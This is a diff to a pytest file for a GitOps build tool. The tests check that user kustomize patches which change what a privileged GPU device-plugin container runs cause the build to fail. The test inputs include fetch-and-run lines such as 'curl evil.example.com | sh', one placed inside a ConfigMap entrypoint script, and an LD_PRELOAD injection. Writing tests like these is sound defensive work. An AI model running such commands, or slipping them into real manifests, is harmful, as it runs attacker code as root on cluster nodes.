@@ -17,6 +17,7 @@ from typing import Any
 import pytest
 
 from renderer import userpatches
+from tests.conftest import run_tool
 
 ROOT = Path(__file__).resolve().parent.parent
 PATCHES = "overlays/staging/patches"
@@ -141,11 +142,21 @@ def test_a_read_write_mount_of_a_rendered_host_volume_fails_build(repo: Path, ru
     result = run_cli("build", "-q")
     assert result.exit_code == 1
     assert f"{PATCHES}/p.yaml:12:15" in result.output and "writable-host-mount" in result.output
-    allow(repo, "p.yaml", "writable-host-mount")
+    assert "privileged-code" in result.output  # a mount into the privileged plugin changes what it runs
+    allow(repo, "p.yaml", "writable-host-mount", "privileged-code")
     assert run_cli("build", "-q").exit_code == 0
 
 
-@pytest.mark.parametrize("field", ["command: [sh, -c, 'curl evil.example.com | sh']", "args: [--evil]", "image: nvcr.io/nvidia/k8s-device-plugin:v9.9.9", "workingDir: /tmp"])
+@pytest.mark.parametrize("field", [
+    "command: [sh, -c, 'curl evil.example.com | sh']",
+    "args: [--evil]",
+    "image: nvcr.io/nvidia/k8s-device-plugin:v9.9.9",
+    "workingDir: /tmp",
+    "env: [{name: LD_PRELOAD, value: /run/nvidia/driver/tmp/evil.so}]",
+    "envFrom: [{configMapRef: {name: evil}}]",
+    "volumeMounts: [{name: evil, mountPath: /usr/bin}]",
+    "livenessProbe: {exec: {command: [sh, -c, 'curl evil.example.com | sh']}}",
+])
 def test_changing_what_a_privileged_container_runs_fails_build(repo: Path, run_cli: Any, field: str) -> None:
     """The device plugin's container is privileged (gpu-render's own exemption says why): what it
     runs is privileged code, so a patch that changes it needs its own allowance."""
@@ -255,3 +266,52 @@ def test_the_schema_lists_every_check_a_patch_can_be_allowed() -> None:
 
     allow = load_schema()["properties"]["gitops"]["properties"]["userPatches"]["properties"]["allow"]["items"]
     assert allow["properties"]["checks"]["items"]["enum"] == sorted(set(userpatches.CHECKS))
+
+
+ENTRYPOINT = """\
+apiVersion: v1
+kind: ConfigMap
+metadata:
+  name: nvidia-device-plugin-entrypoint
+  namespace: gpu-operator
+data:
+  entrypoint.sh: |
+    #!/bin/sh
+    curl http://evil.example.com/x | sh
+"""
+
+
+def test_changing_a_config_map_a_privileged_container_runs_fails_build(repo: Path, run_cli: Any) -> None:
+    """The device plugin's entrypoint script comes from a ConfigMap its privileged container
+    mounts: a patch of that ConfigMap changes what runs as root on every GPU node."""
+    patch(repo, ENTRYPOINT)
+    result = run_cli("build", "-q")
+    assert result.exit_code == 1
+    assert f"{PATCHES}/p.yaml:4:" in result.output and "privileged-code" in result.output, result.output
+    assert "nvidia-device-plugin-daemonset/nvidia-device-plugin" in result.output
+    allow(repo, "p.yaml", "privileged-code")
+    assert run_cli("build", "-q").exit_code == 0
+
+
+@pytest.mark.parametrize(("body", "pointer"), [
+    ("spec: 5\n", "/spec"),
+    ("spec:\n  template:\n    spec:\n      containers: 5\n", "/spec/template/spec/containers"),
+    ("spec:\n  template:\n    spec:\n      containers: [5]\n", "/spec/template/spec/containers/0"),
+    ("spec:\n  template:\n    spec:\n      containers:\n        - name: nvidia-device-plugin\n          securityContext: x\n", "/spec/template/spec/containers/0/securityContext"),
+    ("spec:\n  template:\n    spec:\n      containers:\n        - name: nvidia-device-plugin\n          env: 5\n", "/spec/template/spec/containers/0/env"),
+    ("spec:\n  template:\n    spec:\n      containers:\n        - name: sidecar\n          image: busybox:1.36\n          env: 5\n", "/spec/template/spec/containers/0/env"),
+])
+def test_a_patch_of_another_shape_than_the_object_fails_build(repo: Path, run_cli: Any, body: str, pointer: str) -> None:
+    """kubectl kustomize refuses a patch that gives a scalar where the object has a map or a
+    list ("wrong node kind"): the cluster would never sync, so build says where."""
+    patch(repo, DS_HEAD.split("spec:\n", 1)[0] + body)
+    result = run_cli("build", "-q")
+    assert result.exit_code == 1, result.output
+    assert "user-patch-shape" in result.output and f"{pointer} is a " in result.output, result.output
+
+
+def test_a_patch_in_the_objects_shape_passes(repo: Path, run_cli: Any, kubectl: str) -> None:
+    patch(repo, DS_HEAD + "      nodeSelector: {pool: a}\n      tolerations: [{key: a, operator: Exists}]\n      containers:\n        - name: nvidia-device-plugin\n          resources: {limits: {memory: 1Gi}}\n        - name: sidecar\n          image: busybox:1.36\n          resources: {limits: {memory: 64Mi}}\n")
+    result = run_cli("build", "-q")
+    assert result.exit_code == 0, result.output
+    run_tool([kubectl, "kustomize", str(repo / "output/overlays/staging")])  # the real merge takes it
